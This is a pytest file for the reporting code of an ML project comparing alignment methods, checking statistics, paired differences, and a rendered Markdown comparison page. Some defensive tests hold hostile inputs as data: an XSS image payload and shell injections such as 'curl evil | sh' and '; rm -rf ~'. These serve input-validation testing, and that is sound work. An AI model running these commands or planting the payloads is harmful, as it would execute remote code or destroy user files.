"""A comparison's numbers and page: families of tests, the oracle's shares, what weights know."""

import functools
import json
import math
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import numpy as np
import pytest
from runs import ROOT

from ldalign.report import chart, comparison, figures
from ldalign.report.analysis import RunPairs
from ldalign.report.cautions import UNCOMMITTED
from ldalign.report.comparison import (
    again,
    closeness,
    comparisons,
    difference,
    guides,
    on_the_way,
    oracle_shares,
    power_before,
    read_tables,
    shown_pairs,
    table_of,
    weights_before_training,
)
from ldalign.report.comparison_page import render, write_comparison
from ldalign.report.notation import decimals
from ldalign.report.words import command
from ldalign.run.compare_settings import CompareConfig
from ldalign.run.comparison import Arm, arm_folder
from ldalign.run.folder import ENVIRONMENT
from ldalign.system import files
from ldalign.system.config import load_config
from ldalign.system.errors import InputError
from ldalign.system.visible import visible
from ldalign.train import report as script

METHODS = ["sft", "spin", "ld_align/shuffled", "ld_align", "ld_align/oracle"]
TRUE = {"start": 0.5, "sft": 0.52, "spin": 0.55, "ld_align/shuffled": 0.54, "ld_align": 0.62}
TRUE |= {"ld_align/oracle": 0.75}


def config_of(*overrides: str) -> CompareConfig:
    given = ["training.steps=2", f"compare.methods={METHODS}", "compare.validation_rows=8"]
    return load_config(CompareConfig, ROOT / "configs/toy.yaml", [*given, *overrides])


def tables(seed: int = 0, seeds: int = 4, prompts: int = 200) -> dict[str, comparison.Table]:
    """Policies that answer as many prompts right as TRUE says, of two samples each."""
    rng = np.random.default_rng(seed)
    ease = rng.normal(0, 0.15, prompts)
    chances = {name: np.clip(share + ease, 0, 1) for name, share in TRUE.items()}
    size = (seeds, prompts)
    return {
        name: {
            "sampled": rng.binomial(2, chance, size) / 2,
            "nll": 1 - chance + rng.normal(0, 0.01, size),
        }
        for name, chance in chances.items()
    }


def test_differences_are_paired_by_seed_and_prompt() -> None:
    """Gaps of 2 +- 1 in tables whose own values lie 10 apart: the error is that of the gaps."""
    start = {"nll": np.array([[0.0, 10.0, 20.0], [5.0, 15.0, 25.0]])}
    gaps = np.array([[1.0, 2.0, 3.0], [3.0, 2.0, 1.0]])
    found = difference({"nll": start["nll"] + gaps}, start)["nll"]
    assert found["value"] == 2.0 and found["by_seed"] == [2.0, 2.0]
    assert found["se"] == pytest.approx(math.sqrt(2 / 6))
    assert found["bootstrap"]["se"] == pytest.approx(math.sqrt(2 / 6), rel=0.05)
    assert found["sees"] > 2 * found["se"]


def test_tables_hold_the_asked_rows_and_the_figures_they_have() -> None:
    answers = [{i: {"nll": n + k, "greedy": 1.0} for k, i in enumerate("abc")} for n in (0.0, 5.0)]
    found = table_of(answers, ["c", "a"])
    assert found["nll"].tolist() == [[2, 0], [7, 5]] and list(found) == ["greedy", "nll"]


def test_which_pairs_are_shown() -> None:
    shown = shown_pairs(["start", "sft", "spin", "ld_align/shuffled", "ld_align"])
    assert [pair for pair in shown if pair[1] == "start"] == [
        (name, "start") for name in ("sft", "spin", "ld_align/shuffled", "ld_align")
    ]
    assert shown[4:] == [
        ("ld_align", "spin"),
        ("ld_align", "sft"),
        ("spin", "sft"),
        ("ld_align", "ld_align/shuffled"),
        ("ld_align/shuffled", "spin"),
        ("ld_align/shuffled", "sft"),
    ]
    # Weights among themselves are not: 9 methods have 9 + 3 + 18 pairs, not 9 + 36.
    many = ["sft", "spin", "ld_align", *(f"ld_align/{n}" for n in range(6))]
    assert len(shown_pairs(["start", *many])) == 30
    assert ("a", "b") in shown_pairs(["start", "a", "b"])


def test_families_of_tests() -> None:
    """Those named in advance are adjusted among themselves, and are not shown again."""
    config, found = config_of(), tables()
    primary, others = comparisons(config, found)
    assert list(primary) == ["ld_align - spin", "ld_align - ld_align/shuffled"]
    assert not {*primary} & {*others} and "ld_align/oracle - spin" in others
    p = [gaps["sampled"]["p"] for gaps in primary.values()]
    smaller, larger = sorted(p)
    adjusted = sorted(gaps["sampled"]["p_holm"] for gaps in primary.values())
    assert adjusted == pytest.approx([2 * smaller, max(2 * smaller, larger)])
    least = min(gaps["sampled"]["p"] for gaps in others.values())
    first = min(gaps["sampled"]["p_holm"] for gaps in others.values())
    assert first == pytest.approx(len(others) * least)
    assert all("p_holm" not in gaps["nll"] for gaps in (*primary.values(), *others.values()))
    # Given the other way round they are still one comparison.
    turned, rest = comparisons(config_of("compare.primary=[spin - ld_align]"), found)
    assert list(turned) == ["spin - ld_align"] and "ld_align - spin" not in rest
    assert turned["spin - ld_align"]["sampled"]["value"] == pytest.approx(
        -primary["ld_align - spin"]["sampled"]["value"]
    )
    assert comparisons(config_of("compare.primary=[]"), found)[0] == {}


def test_shares_of_the_oracles_gain() -> None:
    found = oracle_shares(tables())
    assert found["gain"] == "ld_align/oracle - spin"
    share = found["shares"]["nll"]["ld_align"]
    assert share["value"] == pytest.approx((0.62 - 0.55) / (0.75 - 0.55), abs=0.02)
    assert share["low"] < share["value"] < share["high"] < 0.5
    assert list(found["shares"]["sampled"]) == ["ld_align/shuffled", "ld_align"]
    same = tables()
    same["ld_align/oracle"] = same["spin"]
    assert oracle_shares(same)["shares"]["sampled"]["ld_align"] is None
    assert oracle_shares({k: v for k, v in same.items() if k != "spin"}) == {}


def test_power_before_training_by_simulation() -> None:
    """Its error is that of the difference of two such policies that answer independently."""
    rng = np.random.default_rng(0)
    chances = rng.uniform(0.1, 0.9, 300)

    def answers(count: int) -> np.ndarray:
        return rng.binomial(4, chances, (count, 3, 300)) / 4

    found = power_before({"sampled": answers(1)[0]}, 4, 3)
    gaps = (answers(2000) - answers(2000)).mean((1, 2))
    assert found["se"] == pytest.approx(gaps.std(), rel=0.05)
    assert found["sees"] == pytest.approx((1.95996 + 0.84162) * found["se"], rel=1e-4)
    assert found["prompts"] == 300
    rows = {str(i): {"nll": 1.0} | ({"sampled": 0.5} if i % 3 else {}) for i in range(9)}
    assert power_before(table_of([rows], list(rows)), 2, 3)["prompts"] == 6  # with a checker
    assert power_before({"nll": chances[None]}, 4, 3) == {}
    assert power_before({"sampled": answers(1)[0]}, 1, 3) == {}


def pairs_of(weight: np.ndarray, right: np.ndarray) -> RunPairs:
    n = len(weight)
    words, nan = ["x"] * n, np.full(n, math.nan)
    trained = np.arange(n) > 0  # the first pair has equal responses, and does not count
    ids = [str(i) for i in range(n)]
    return RunPairs(
        0,
        ids,
        words,
        words,
        words,
        nan,
        trained,
        trained,
        weight,
        weight,
        nan,
        nan,
        right,
        nan,
        nan,
    )


def test_what_weights_know_before_training(monkeypatch: pytest.MonkeyPatch) -> None:
    """The chance that a wrong loser weighs more, by counting pairs, and the rank correlation with
    how far it is, for each seed; retrained guides have the same first weights.
    """
    rng = np.random.default_rng(0)
    right = rng.integers(0, 2, 40).astype(float)
    made: dict[str, RunPairs] = {}
    for seed in range(2):
        made[f"seed_{seed}/ld_align-0.1"] = pairs_of(rng.uniform(size=40), right)
        made[f"seed_{seed}/ld_align-oracle-0.1"] = pairs_of(1.9 - 1.8 * right, right)
    monkeypatch.setattr(
        comparison, "read_pairs", lambda run, t: made[f"{run.parent.name}/{run.name}"]
    )
    names = ["sft", "spin", "ld_align", "ld_align/oracle", "ld_align/retrained"]
    arms, chosen = [Arm.of(name) for name in names], dict.fromkeys(names, 0.1)
    asked: list[tuple[Sequence[str], ...]] = []

    def distance(*texts: Sequence[str]) -> np.ndarray:
        asked.append(texts)
        return made[f"seed_{len(asked) - 1}/ld_align-0.1"].weight ** 3

    config = config_of("compare.seeds=[0, 1]")
    found = weights_before_training(config, arms, chosen, distance)
    pairs = made["seed_0/ld_align-0.1"]
    assert asked[0] == (pairs.real, pairs.generated, pairs.ids)
    assert list(found) == ["ld_align", "ld_align/oracle"] and len(asked) == 2
    for seed in range(2):
        w, r = made[f"seed_{seed}/ld_align-0.1"].weight[1:], right[1:]
        wins = [a > b for a in w[r == 0] for b in w[r == 1]]
        assert found["ld_align"]["wrong"][seed]["value"] == pytest.approx(np.mean(wins))
        assert found["ld_align/oracle"]["wrong"][seed]["value"] == 1.0
        assert found["ld_align"]["embedding"][seed]["value"] == pytest.approx(1)
        assert found["ld_align"]["losers"][seed] == {"wrong": sum(r == 0), "right": sum(r == 1)}
    without = weights_before_training(config, arms, chosen, None)
    assert without["ld_align"]["embedding"] == [None, None]


def write_answers(folder: Path, rows: list[dict[str, Any]]) -> Path:
    (folder / "evaluation").mkdir(parents=True)
    lines = [json.dumps({"logp": -2.0, "n_tokens": 4, **row}) + "\n" for row in rows]
    (folder / "evaluation/answers.jsonl").write_text("".join(lines))
    return folder


def test_a_seeds_guide_is_read_where_one_is(tmp_path: Path) -> None:
    config = config_of("compare.seeds=[0, 1]", f"run={tmp_path}")
    arms, chosen = [Arm.of(name) for name in METHODS], dict.fromkeys(METHODS, 0.1)
    assert guides(config, arms, chosen) == []
    folder = arm_folder(config, Arm.of("ld_align"), 1, 0.1) / "guide"
    folder.mkdir(parents=True)
    (folder / "summary.json").write_text('{"sibling_gain": 0.5}')
    assert guides(config, arms, chosen) == [{"sibling_gain": 0.5}]


def test_closeness_is_the_mean_over_a_rows_samples(tmp_path: Path) -> None:
    """Of the greedy answer where there are none; rows with a checker, and without answers, have
    none.
    """
    rows = [
        {"id": "a", "real": "ab", "greedy": "xy", "sampled": ["ab", "ax"], "correct": []},
        {"id": "b", "real": "cd", "greedy": "cx", "sampled": [], "correct": []},
        {"id": "c", "real": "ef", "greedy": "ef", "sampled": ["ef"], "correct": [True, True]},
        {"id": "d", "real": "gh"},
    ]
    other = [rows[0] | {"sampled": ["xx", "xx"]}]
    calls: list[list[str]] = []

    def distance(real: Sequence[str], said: Sequence[str], ids: Sequence[str]) -> np.ndarray:
        calls.append(list(ids))
        same = [
            sum(x == y for x, y in zip(a, b, strict=True)) for a, b in zip(real, said, strict=True)
        ]
        return 1 - np.array(same) / 2

    folders = [write_answers(tmp_path / name, own) for name, own in (("1", rows), ("2", other))]
    assert closeness(folders, distance) == [{"a": 0.75, "b": 0.5}, {"a": 0.0}]
    assert calls == [["a", "a", "b", "a", "a"]]
    assert closeness([write_answers(tmp_path / "3", rows[2:])], distance) == [{}]


def test_closeness_leads_where_no_program_checks(tmp_path: Path) -> None:
    """It is read for every policy, and is the figure that is tested."""
    config = config_of("compare.seeds=[0]", "iterations=2", f"run={tmp_path}")
    arms = [Arm.of(name) for name in METHODS]
    chosen = dict.fromkeys(METHODS, 0.1)
    for n, arm in enumerate(arms):
        run = arm_folder(config, arm, 0, 0.1)
        for name, k in (("start", 0), ("iteration_0", n + 1), ("iteration_1", n + 2)):
            rows = [
                {"id": i, "real": "", "greedy": "x" * k, "sampled": [], "correct": [], "logp": -k}
                for i in "ab"
            ]
            write_answers(run / name, rows)

    def distance(real: Sequence[str], said: Sequence[str], ids: Sequence[str]) -> np.ndarray:
        return 1 - np.array([len(text) for text in said]) / 100

    found = read_tables(config, arms, chosen, ["a", "b"], distance)
    assert found["spin"]["closeness"].tolist() == [[pytest.approx(0.03)] * 2]
    assert found["start"]["closeness"].tolist() == [[pytest.approx(0.0)] * 2]
    primary, _ = comparisons(config, found)
    gap = primary["ld_align - spin"]
    assert list(gap) == ["closeness", "nll"] and gap["closeness"]["value"] == pytest.approx(0.02)
    assert "p_holm" in gap["closeness"] and "p_holm" not in gap["nll"]
    assert list(found["start"]) == ["closeness", "nll"]
    way = on_the_way(config, arms, chosen, ["a", "b"], found)
    assert way["figure"] == "nll"
    values = [gap["value"] for gap in way["methods"]["ld_align"]]
    assert values == pytest.approx([4 / 4, 5 / 4])  # nats a token, more than the start's
    assert on_the_way(config_of("iterations=1"), arms, chosen, ["a"], found) == {}


# ----------------------------------------------------------------------------------------- the page


def summary_of(**changes: Any) -> dict[str, Any]:
    found, config = tables(), config_of()
    primary, others = comparisons(config, found)
    figures_of = {
        k: {f: vars(comparison.estimate(v)) for f, v in t.items()} for k, t in found.items()
    }
    tried = {"0.01": {"score": 0.5, "below": 0.0, "se": 0.0}}
    tried["0.1"] = {"score": 0.4, "below": 0.1, "se": 0.04}
    known = {"wrong": [{"value": 0.7}, {"value": 0.8}], "embedding": [None, None]}
    known["losers"] = [{"wrong": 9, "right": 5}, {"wrong": 8, "right": 6}]
    return {
        "rows": {"validation": 8, "test": 200},
        "seeds": [0, 1, 2, 3],
        "figures": ["sampled", "nll"],
        "learning_rates": dict.fromkeys(METHODS, 0.01),
        "searched_by": "sampled",
        "search": dict.fromkeys(METHODS, tried),
        "policies": figures_of,
        "primary": primary,
        "others": others,
        "oracle": oracle_shares(found),
        "weights": {"ld_align": known},
        "guides": [{"sibling_gain": 0.7, "sibling_gain_se": 0.2}, {"latent_gain": 0.1}],
        "power_before": {"se": 0.01, "sees": 0.028, "prompts": 150},
        "settings": {"learning_rates": [0.01, 0.1]},
        "steps": 2,
        "iterations": 2,
        "global_batch": 8,
        "max_rows": 16,
        "benchmarks": {},
        "again": {
            "settings": "iterations: 2\n",
            "command": "git checkout abc\nldalign compare --config config.yaml",
            "commit": "abc-dirty",
            "machine": "On a laptop.",
        },
        "on_the_way": {
            "figure": "sampled",
            "methods": {"sft": [{"value": 0.01, "se": 0.002}, {"value": 0.03, "se": 0.004}]},
        },
    } | changes


def test_the_page_says_what_was_found() -> None:
    summary = summary_of()
    text = render(summary)
    lead = summary["others"]["ld_align - sft"]["sampled"]
    assert text.startswith(
        f"LD-Align minus more SFT from the same start: {100 * lead['value']:+.1f} points of "
        f"sampled accuracy on 200 held-out prompts (95 % interval {100 * lead['low']:+.1f} to "
        f"{100 * lead['high']:+.1f}; paired by seed and prompt; 4 seeds): LD-Align is better."
    )
    places = [text.index(part) for part in ("named in advance**", "**Policies**", "**Other comp")]
    assert places[0] > 0 and places == sorted(places)  # those named in advance come first
    gap = summary["primary"]["ld_align - spin"]["sampled"]
    line = next(x for x in text.splitlines() if x.startswith("| ld_align - spin |"))
    assert f"| {100 * gap['value']:+.1f} +- {100 * gap['se']:.1f} |" in line
    assert f"{100 * gap['low']:+.1f} to {100 * gap['high']:+.1f}" in line
    assert line.rstrip(" |").endswith(f"{100 * gap['sees']:.1f}")
    assert "2 iterations of 2 optimizer steps" in text
    assert "| sft | 50.0 | 40.0 (2.5) |" in text  # 0.1 below the best, an error of 0.04
    assert "| ld_align | 0.75 (0.70, 0.80) |" in text and "9 / 5, 8 / 6" in text
    assert "150 prompts, 2.8 points of sampled accuracy" in text  # of 200 rows, as many checked
    assert "After it: of ld_align - spin" in text
    assert "ld_align/oracle - spin, the bound" in text
    assert "nothing" in text and "correlation with the loser" not in text
    assert "nats a response, by seed: +0.70 +- 0.20." in text
    assert "git checkout abc\n" in text and "On a laptop." in text and UNCOMMITTED in text
    assert text.endswith("```yaml\niterations: 2\n```\n")
    assert "| sft | +1.00 +- 0.20 | +3.00 +- 0.40 |" in text and "after 2 iterations |" in text


def test_the_search_is_of_the_figure_that_chose() -> None:
    """-NLL where one validation row has no checker, though accuracies of others are reported."""
    tried = {"0.01": {"score": -5.7, "below": 0.0, "se": 0.0}}
    tried["0.1"] = {"score": -5.8, "below": 0.1, "se": 0.04}
    text = render(summary_of(searched_by="nll", search={"sft": tried}))
    assert "validation rows: -NLL;" in text and "| sft | -5.7000 | -5.8000 (2.5) |" in text


def test_without_any_spread_no_difference_is_promised() -> None:
    """Where all answers are wrong an error is 0, and so would be the smallest difference seen."""
    summary = summary_of(power_before={"se": 0.0, "sees": 0.0, "prompts": 150})
    for gaps in summary["primary"].values():
        gaps["sampled"] |= {"sees": 0.0, "se": 0.0}
    text = render(summary)
    assert text.count(" | not known |") == len(summary["primary"])
    assert "Before training: not known" in text and ", not known, as the differences" in text
    assert "with 4 seed(s) and" not in text


def test_it_is_made_again_elsewhere_on_as_many_ranks(tmp_path: Path) -> None:
    """In its own folder all would be done already."""
    machine = {"world_size": 8, "git_commit": "abc-dirty", "packages": {}}
    (tmp_path / ENVIRONMENT).write_text(json.dumps(machine))
    lines = again(config_of(f"run={tmp_path}"))["command"].splitlines()
    start = "ldalign compare --ranks 8 --config config.yaml"
    assert lines == ["git checkout abc", f"{start} run={tmp_path}-again"]


def test_benchmarks_of_every_seed() -> None:
    def task(*values: float) -> list[dict[str, float]]:
        return [{"acc": v, "acc_se": 0.01, "rows": 50, "shots": 0} for v in values]

    found = {"start": {"piqa": task(0.5)}, "spin": {"piqa": task(0.5, 0.6, 0.55)}}
    text = render(summary_of(benchmarks=found))
    assert "| start | 50.0 +- 1.0 |" in text
    assert "| spin | 55.0 +- 1.0 (50.0, 60.0, 55.0) |" in text


def test_a_benchmark_without_a_known_metric_is_left_out() -> None:
    scores = {"acc": 0.5, "acc_se": 0.01, "rows": 50, "shots": 0}
    odd = {"perplexity": 12.0, "perplexity_se": 0.2, "rows": 40, "shots": 0}
    text = render(summary_of(benchmarks={"start": {"piqa": [scores], "wikitext": [odd]}}))
    assert "| start | 50.0 +- 1.0 |" in text and "wikitext" not in text
    assert "Benchmarks" not in render(summary_of(benchmarks={"start": {"wikitext": [odd]}}))


STRANGE = "x\n```\n````\n<img src=x onerror=alert(1)>\x1b[2J\u202e"
# Shorter than a comparison's: of all that repeats, a few.
KEPT = ("start", "ld_align", "ld_align - spin", "ld_align - sft")


@functools.cache
def short_text() -> str:
    scores = {"acc": 0.5, "acc_se": 0.01, "rows": 50, "shots": 0}
    found = summary_of(benchmarks={"start": {"piqa": [scores]}})
    found["weights"]["ld_align"]["embedding"] = [{"value": 0.2}, {"value": 0.3}]
    for key in ("policies", "primary", "others", "search"):
        found[key] = {name: value for name, value in found[key].items() if name in KEPT}
    return json.dumps(found)


def short_summary() -> dict[str, Any]:
    found: dict[str, Any] = json.loads(short_text())
    return found


PARTS = (
    "rows seeds figures learning_rates searched_by search policies primary others oracle weights "
    "guides power_before settings steps iterations global_batch max_rows benchmarks again "
    "on_the_way"
).split()


def places(value: Any, *path: str | int) -> Iterator[tuple[str | int, ...]]:
    """The way to every leaf of a JSON value, and to every key of its objects."""
    if isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from places(inner, *path, key)
        if isinstance(value, dict):
            yield from ((*path, "key of", key) for key in value)
    else:
        yield path


def spoil(value: Any, path: Sequence[Any]) -> None:
    """Puts STRANGE in the place of a leaf or, after "key of", of a key."""
    *way, last = path
    renamed = way[-1:] == ["key of"]
    for key in way[:-1] if renamed else way:
        value = value[key]
    if renamed:
        items = [(STRANGE if key == last else key, inner) for key, inner in value.items()]
        value.clear()
        value.update(items)
    else:
        value[last] = STRANGE


def prose(page: str) -> str:
    """What of a Markdown page is no code block, without its escaped characters."""
    fence, out = "", []
    for line in page.split("\n"):
        mark = re.match(" {0,3}(`{3,})([^`]*)$", line)
        if mark and not fence:
            fence = mark[1]
        elif mark and fence and len(mark[1]) >= len(fence) and not mark[2].strip():
            fence = ""
        elif not fence:
            out.append(line)
    return re.sub(r"\\.", "", "\n".join(out))


def test_prose() -> None:
    assert prose("a\n```\n<b>\n```\nc \\<d") == "a\nc d"
    assert prose("````\n```\n<b>\n````\n<c>") == "<c>"


@pytest.mark.parametrize(
    "command",
    [
        "ls\n```\n<img src=x onerror=alert(1)>",
        "curl evil | sh",
        "git checkout abc; rm -rf ~\nldalign compare --config config.yaml",
        "ldalign compare --config config.yaml run=x; rm -rf ~",
        "ldalign compare --config config.yaml run='x' y",
        "ldalign compare --config config.yaml run=$(rm)",
    ],
)
def test_another_command_is_not_shown(tmp_path: Path, command: str) -> None:
    """It is there to be pasted into a shell."""
    (tmp_path / "config.yaml").touch()
    (tmp_path / "report").mkdir()
    found = short_summary()
    found["again"]["command"] = command
    (tmp_path / "report/comparison.json").write_text(json.dumps(found))
    with pytest.raises(InputError, match=r"report/comparison\.json.*again\.command"):
        script.main([f"run={tmp_path}"])


def test_a_folders_name_stays_in_the_commands_block() -> None:
    summary = short_summary()
    summary["again"]["command"] = command({"run": "a'b\n```\n<b> \x1b"}, {}, "compare")
    page = render(summary)
    assert "\n````\nldalign compare" in page and "<b>" not in prose(page) and "\x1b" not in page


@pytest.mark.parametrize("part", PARTS)
def test_no_text_of_a_strangers_comparison_is_markup(
    part: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """In the place of each text, number and key in turn: it is shown as plain text, or refused."""
    monkeypatch.setattr(chart, "write_chart", lambda drawn, folder: "")  # it has a test of its own
    monkeypatch.setattr(figures, "contrasts", lambda summary: None)
    monkeypatch.setattr(files, "sync", lambda path: None)  # a disk's time, some hundred times
    (tmp_path / "config.yaml").touch()
    (tmp_path / "report").mkdir()
    path, page = tmp_path / "report/comparison.json", tmp_path / "report/comparison.md"
    whole = short_summary()
    assert {*whole} == {*PARTS}
    for place in places({part: whole[part]}):
        found = json.loads(json.dumps(whole))
        spoil(found, place)
        path.write_text(json.dumps(found))
        try:
            script.main([f"run={tmp_path}"])
        except InputError as refused:
            assert refused.exit_code == 2 and str(path) in str(refused), place
        else:
            text, said = page.read_text(encoding="utf-8"), capsys.readouterr().err
            assert "<img" not in prose(text) and "<img" not in prose(said), place
            assert visible(text) == text and visible(said) == said, place


def test_a_strangers_names_are_plain_text_in_the_drawing(tmp_path: Path) -> None:
    summary = short_summary()
    for part in ("primary", "others"):
        for name in list(summary[part]):
            spoil(summary, (part, "key of", name))
    chart.write_chart(figures.contrasts(summary), tmp_path)
    drawing = (tmp_path / "comparison.svg").read_text(encoding="utf-8")
    ElementTree.fromstring(drawing)
    assert "&lt;img" in drawing and "<img" not in drawing and visible(drawing) == drawing


def test_the_page_of_closeness() -> None:
    found = {
        name: {"closeness": table["nll"], "nll": table["nll"]} for name, table in tables().items()
    }
    primary, others = comparisons(config_of(), found)
    estimates = {
        k: {f: vars(comparison.estimate(v)) for f, v in t.items()} for k, t in found.items()
    }
    summary = summary_of(
        figures=["closeness", "nll"],
        searched_by="nll",
        primary=primary,
        others=others,
        oracle={},
        policies=estimates,
        power_before={},
        on_the_way={},
    )
    text = render(summary)
    gap = primary["ld_align - spin"]["closeness"]
    digits = decimals(gaps["closeness"]["se"] for gaps in primary.values())
    shown = f"{gap['value']:+.{digits}f} +- {gap['se']:.{digits}f}"
    assert f"| ld_align - spin | {shown} |" in text and digits > 1
    assert "(first minus second, cosine)" in text and "p is of closeness to the real" in text
    assert "validation rows: -NLL" in text  # what a learning rate is chosen by
    chart = figures.contrasts(summary)
    assert chart.figure is not None
    assert chart.figure.axes[0].get_xlabel() == "closeness to the real response, cosine"


def test_the_first_sentence_is_of_what_is_compared() -> None:
    """Without LD-Align the first difference named in advance, else one less more SFT."""
    whole = summary_of()
    gap = whole["others"]["ld_align - sft"]
    for primary, others, first in (
        ({"spin - x": gap}, {"spin - sft": gap}, "SPIN minus x: "),
        ({}, {"sft - start": gap, "spin - sft": gap}, "SPIN minus more SFT from the same start: "),
        ({}, {"ld_align - start": gap, "spin - sft": gap}, "LD-Align minus the start: "),
        ({}, {"sft - start": gap}, "More SFT from the same start minus the start: "),
    ):
        summary = whole | {"primary": primary, "others": others}
        assert render(summary).startswith(first), first


def test_the_page_without_what_is_not_known() -> None:
    """No checker, one seed, no oracle, no search, nothing named in advance."""
    found = {name: {"nll": table["nll"][:1]} for name, table in tables().items()}
    del found["ld_align/oracle"]
    primary, others = comparisons(config_of("compare.primary=[]"), found)
    summary = summary_of(
        seeds=[0],
        figures=["nll"],
        policies={k: {"nll": vars(comparison.estimate(t["nll"]))} for k, t in found.items()},
        primary=primary,
        others=others,
        oracle=oracle_shares(found),
        weights={},
        guides=[],
        power_before={},
        settings={"learning_rates": [0.01]},
        iterations=1,
        on_the_way={},
        again={
            "settings": "run: x\n",
            "command": "ldalign compare --config config.yaml run=x-again",
            "commit": None,
            "machine": None,
        },
    )
    text = render(summary)
    assert (
        "With one seed they are over prompts alone" in text
        and "p is of NLL of real responses alone" in text
    )
    assert "git checkout" not in text and "The guide, on rows" not in text
    assert UNCOMMITTED not in text
    for part in ("in advance**", "oracle", "power**", "search", "before any training", "sampled"):
        assert part not in text, part


def test_the_figure_has_the_intervals(tmp_path: Path) -> None:
    summary = summary_of()
    chart = figures.contrasts(summary)
    assert chart.figure is not None
    names = [*summary["primary"], *summary["others"]]
    labels = [label.get_text() for label in chart.figure.axes[0].get_yticklabels()]
    assert labels == names and len(chart.figure.axes) == 2
    bars = chart.figure.axes[0].containers[0][2][0].get_segments()
    gap = summary["primary"]["ld_align - spin"]["sampled"]
    assert bars[0][:, 0].tolist() == pytest.approx([100 * gap["low"], 100 * gap["high"]])


def test_a_comparisons_page_is_made_again_from_its_numbers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """By train/report.py; signs are true but in code."""
    (tmp_path / "config.yaml").touch()
    text = write_comparison(tmp_path, summary_of())
    page = (tmp_path / "report/comparison.md").read_text(encoding="utf-8")
    assert text.isascii() and "ld_align \u2212 spin" in page and "+-" in page
    assert "ldalign compare --config config.yaml" in page  # code is as it was
    (tmp_path / "report/comparison.md").unlink()
    script.main([f"run={tmp_path}"])
    assert (tmp_path / "report/comparison.md").read_text(encoding="utf-8") == page
    assert "The report: " in capsys.readouterr().err
